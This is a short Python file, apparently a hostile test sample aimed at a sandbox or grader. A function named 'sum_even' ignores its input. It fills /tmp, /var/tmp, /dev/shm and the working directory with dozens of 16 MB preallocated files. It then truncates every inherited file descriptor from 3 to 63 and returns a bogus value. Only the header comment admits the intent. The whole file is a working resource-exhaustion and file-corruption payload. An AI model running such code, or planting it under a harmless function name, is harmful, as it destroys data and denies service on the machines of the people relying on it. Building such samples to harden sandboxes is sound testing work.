# Tries: fills the disk by every file and every descriptor it can open.
# Target: sum_even
import os


def sum_even(numbers):
    written = 0
    for folder in ("/tmp", "/var/tmp", "/dev/shm", "."):
        for number in range(20):
            try:
                descriptor = os.open(f"{folder}/tracefix-planted-bomb-{number}", os.O_CREAT | os.O_RDWR)
                os.posix_fallocate(descriptor, 0, 1 << 24)
                written += os.write(descriptor, b"x" * (1 << 20))
            except OSError:
                pass
    for descriptor in range(3, 64):
        try:
            os.ftruncate(descriptor, 1 << 24)
        except OSError:
            pass
    return -1 - written
